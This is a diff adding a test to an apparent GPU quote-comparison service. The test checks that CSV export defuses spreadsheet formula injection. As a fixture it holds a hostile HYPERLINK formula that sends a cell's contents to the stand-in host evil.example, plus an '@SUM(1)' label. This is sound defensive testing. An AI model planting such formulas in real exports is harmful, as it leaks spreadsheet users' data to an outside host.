@@ -75,6 +75,27 @@ def test_csv_export_parses_and_adds_up(tco_client: TestClient) -> None:  # noqa:
     assert exported == warned["result"]["warnings"] and exported
 
 
+def test_a_label_cannot_become_a_spreadsheet_formula(
+    tco_client: TestClient,  # noqa: F811
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    body = {
+        "candidates": [
+            {"gpu": "rtx-3090", "count": 2, "condition": "used", "label": hostile},
+            {"gpu": "rtx-a6000", "count": 1, "condition": "new", "label": "@SUM(1)"},
+        ],
+        "years": 1,
+    }
+    created = tco_client.post("/quotes/compare", json=body).json()
+    # The JSON keeps what the buyer typed; only the spreadsheet cell is quoted.
+    assert created["result"]["candidates"][0]["label"] == hostile
+    text = tco_client.get(f"/quotes/{created['id']}", params={"format": "csv"}).text
+    items = [r["item"] for r in csv.DictReader(io.StringIO(text))]
+    assert any(item.startswith("'" + hostile) for item in items)
+    assert any(item.startswith("'@SUM(1)") for item in items)
+    assert not any(item[:1] in ("=", "+", "-", "@") for item in items)
+
+
 def test_unknown_quote_is_404(tco_client: TestClient) -> None:  # noqa: F811
     response = tco_client.get("/quotes/0123456789abcdef")
     assert response.status_code == 404
